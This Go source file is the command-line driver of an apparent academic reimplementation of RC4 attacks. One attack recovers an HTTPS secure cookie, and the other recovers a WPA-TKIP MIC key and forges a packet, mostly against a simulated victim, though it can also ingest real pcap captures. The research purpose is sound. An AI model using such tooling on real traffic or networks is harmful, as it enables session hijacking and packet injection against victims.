package job

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"slices"
	"syscall"

	"rc4break/internal/cookieattack"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
)

// command is what one attack's command names differently: the binary, the
// budget and depth flags (Spec.Budget and Spec.MaxCandidates), and the
// paper's figures their usage quotes.
type command struct {
	name, budget, depth     string
	budgetPaper, depthPaper string
}

// commands holds each attack's command; like defaults, it is fixed here.
var commands = map[string]command{
	"cookie": {name: "cookieattack", budget: "ciphertexts", depth: "candidates",
		budgetPaper: "9 x 2^27 for 94%", depthPaper: "2^23"},
	"tkip": {name: "tkipattack", budget: "copies", depth: "maxdepth",
		budgetPaper: "~9.5 x 2^20 per hour", depthPaper: "nearly 2^30"},
}

// ignoredBy lists, for each flag that picks a flow of its own, the flags
// that flow never reads; setting both is a usage error.
var ignoredBy = []struct {
	flow  string
	flags []string
}{
	{"write-pcap", []string{"pcap", "resume", "merge", "checkpoint", "collect-only", "online", "fleet-worker"}},
	{"fleet-worker", []string{"resume", "merge", "checkpoint", "collect-only", "online"}},
}

// Main runs attack's command (cookieattack or tkipattack) on its
// arguments and returns the exit status: 0 on success, 1 on failure, 2 on
// a usage error, and 130 when SIGINT or SIGTERM stopped the run. README
// "Job spec" maps the flags to Spec fields.
func Main(attack string, args []string) int {
	cmd := commands[attack]
	spec, c := Spec{Attack: attack}, cli{}
	unit := spec.unit()
	fs := flag.NewFlagSet(cmd.name, flag.ContinueOnError)
	fs.Uint64Var(&spec.Budget, cmd.budget, Defaults(attack).Budget, fmt.Sprintf("total %s this shard should hold, including resumed ones (paper: %s); the online budget; 0 collects nothing (README \"Job spec\")", unit, cmd.budgetPaper))
	fs.IntVar(&spec.MaxCandidates, cmd.depth, 0, fmt.Sprintf("candidate list depth, per decode round with -online (0 = attack default; paper: %s; README \"Job spec\")", cmd.depthPaper))
	if attack == "cookie" {
		fs.StringVar(&spec.Secret, "secret", "Secur3C00kieVal+", "the secure cookie to recover: 1-16 characters of the RFC 6265 cookie charset")
	} else {
		fs.Uint64Var(&spec.TrainKeys, "trainkeys", 0, "training keys per TSC class (0 = attack default; paper: 2^32; README \"Job spec\")")
		fs.StringVar(&c.model, "model", "", "model snapshot: loaded if the file exists, otherwise trained and saved there")
	}
	fs.StringVar(&spec.Mode, "mode", "model", fmt.Sprintf("capture mode: model (sampled sufficient statistics) | exact (the simulated victim's real %s)", unit))
	fs.Int64Var(&spec.Seed, "seed", 1, "simulation seed; give independent shards different seeds")
	fs.IntVar(&spec.Workers, "workers", 0, "parallel workers for model training, capture and decoding (0 = GOMAXPROCS)")
	fs.StringVar(&c.checkpoint, "checkpoint", "", "snapshot file written on completion and on Ctrl-C; exact mode also writes it at every capture granule end, online mode after every decode round")
	fs.Uint64Var(&spec.CaptureChunk, "capture-chunk", 0, fmt.Sprintf("%s per capture granule: model mode draws once per granule, exact mode rewrites -checkpoint at every granule end (0 = attack default; README \"Job spec\")", unit))
	fs.StringVar(&c.resume, "resume", "", "snapshot file to resume this shard's collection from")
	fs.StringVar(&c.merge, "merge", "", "comma-separated shard snapshots to merge into the evidence pool after collection")
	fs.BoolVar(&c.collectOnly, "collect-only", false, "stop after collection (use with -checkpoint to produce a shard snapshot)")
	fs.BoolVar(&c.online, "online", false, "closed-loop mode: decode while capturing, stop at the first oracle-confirmed candidate")
	fs.Uint64Var(&spec.DecodeEvery, "decode-every", 0, fmt.Sprintf("online: %s between decode attempts (0 = geometric cadence from -first-decode)", unit))
	fs.Uint64Var(&spec.FirstDecode, "first-decode", 0, fmt.Sprintf("online: %s at the first decode attempt (0 = attack default, clamped to -%s; README \"Job spec\")", unit, cmd.budget))
	fs.StringVar(&c.fleetWorker, "fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	fs.StringVar(&c.workerID, "worker-id", "", "fleet worker name (default hostname-pid)")
	fs.StringVar(&spec.Traces, "pcap", "", "ingest evidence from capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	fs.StringVar(&c.writePcap, "write-pcap", "", fmt.Sprintf("write the exact victim stream (-%s %s) as a capture file and exit (.pcapng extension selects pcapng, else classic pcap)", cmd.budget, unit))
	fs.BoolVar(&c.json, "json", false, "append one machine-readable JSON result line to stdout")
	if err := fs.Parse(args); err != nil {
		if errors.Is(err, flag.ErrHelp) {
			return 0
		}
		return 2
	}
	set := make(map[string]bool)
	fs.Visit(func(f *flag.Flag) { set[f.Name] = true })
	for _, r := range ignoredBy {
		for _, name := range r.flags {
			if set[r.flow] && set[name] {
				fmt.Fprintf(os.Stderr, "%s: -%s ignores -%s; drop one of them\n", cmd.name, r.flow, name)
				return 2
			}
		}
	}
	// A first SIGINT or SIGTERM stops capture at its next fold batch or
	// granule end; the run then flushes -checkpoint and exits 130. A
	// second one ends the process at once.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	context.AfterFunc(ctx, stop)
	if err := c.start(ctx, spec); errors.Is(err, context.Canceled) {
		return 130 // the checkpoint flush is already reported
	} else if err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", cmd.name, err)
		return 1
	}
	return 0
}

// start runs the flow the flags picked: write a capture file, serve a
// fleet as a worker, or build the shard's runtime (resumed from -resume)
// and run it.
func (c cli) start(ctx context.Context, spec Spec) error {
	budget := spec.Budget
	spec, err := spec.Normalize()
	if err != nil {
		return err
	}
	// Normalize reads a zero budget as the default; a budget flag of 0
	// collects nothing, so an offline run recovers from its -merge shards
	// alone.
	spec.Budget = budget
	if c.writePcap != "" {
		// Writing the stream needs no trained model: TKIP frames are a pure
		// function of the demo session and the TSC sequence.
		fmt.Printf("[1/1] writing %d %s of the exact victim stream -> %s\n", spec.Budget, spec.unit(), c.writePcap)
		size, err := spec.WriteCapture(ctx, c.writePcap, spec.Budget)
		if err != nil {
			return err
		}
		fmt.Printf("      %d %s, %.1f MB\n", spec.Budget, spec.unit(), float64(size)/(1<<20))
		return nil
	}
	if spec.Attack == "cookie" {
		fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
		cfg, _, err := CookieLayout(spec.Secret)
		if err != nil {
			return err
		}
		fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", cfg.Offset, cfg.CounterBase)
	} else {
		// Shards must share one model: capture snapshots embed its
		// fingerprint and refuse to resume or merge under a different one.
		prefix := "[1/4]"
		spec.Model, err = LoadOrTrainModel(c.model, spec.TrainKeys, spec.Workers, func(format string, args ...interface{}) {
			fmt.Printf(prefix+" "+format+"\n", args...)
			prefix = "     "
		})
		if err != nil {
			return err
		}
	}
	if c.fleetWorker != "" {
		return spec.runWorker(ctx, c.fleetWorker, c.workerID)
	}
	var evidence []byte
	if c.resume != "" {
		if evidence, err = os.ReadFile(c.resume); err != nil {
			return fmt.Errorf("resume %s: %w", c.resume, err)
		}
	}
	rt, err := New(spec, evidence)
	if err != nil {
		return err
	}
	if c.resume != "" {
		fmt.Printf("      resumed %s: %d %s of evidence\n", c.resume, rt.Observed(), rt.Unit)
	}
	if a, ok := rt.Decoder.(*cookieattack.Attack); ok {
		anchors := a.AnchorsPerPair()
		fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", slices.Min(anchors), slices.Max(anchors))
	}
	return c.run(ctx, rt)
}

// live describes n observations at the attack's live capture rate.
func (s Spec) live(n uint64) string {
	if s.Attack == "tkip" {
		return fmt.Sprintf("%.1f h of injection at %d pps", float64(n)/netsim.TKIPInjectionPerSecond/3600, netsim.TKIPInjectionPerSecond)
	}
	return fmt.Sprintf("%.1f h of traffic at %d req/s", float64(n)/netsim.HTTPSRequestsPerSecond/3600, netsim.HTTPSRequestsPerSecond)
}

// recovered prints the attack's lines after a confirmed hit and returns
// what the -json result reports as recovered: the cookie, or the MIC key
// the trailer oracle inverted. A TKIP run then shows the impact (§7.4): a
// packet forged under that key must be accepted by the network.
func recovered(rt *Runtime, res online.Result) ([]byte, error) {
	oracle, ok := rt.Oracle.(*tkip.TrailerOracle)
	if !ok {
		// The server accepts only the secret itself.
		fmt.Printf("[4/4] server accepted cookie %q (%d checks: %.1f s at %d checks/s live) — attack complete\n", res.Plaintext,
			res.Checks, float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
		return res.Plaintext, nil
	}
	// The oracle already rejected any ICV collision through the same
	// forgery; the result reports the key, not the trailer.
	session := tkip.DemoSession()
	fmt.Printf("      recovered MIC key: %x (%d ICV passes)\n", oracle.MICKey, oracle.ICVPasses)
	if oracle.MICKey == session.MICKey {
		fmt.Println("      MIC key matches the real key")
	}
	fmt.Println("[4/4] forging a packet with the recovered MIC key...")
	if !netsim.ForgeryConfirm(session, oracle.MSDU)(oracle.MICKey) {
		return nil, errors.New("forged packet rejected by the network")
	}
	fmt.Println("      forged packet accepted by the network — attack complete")
	return oracle.MICKey[:], nil
}
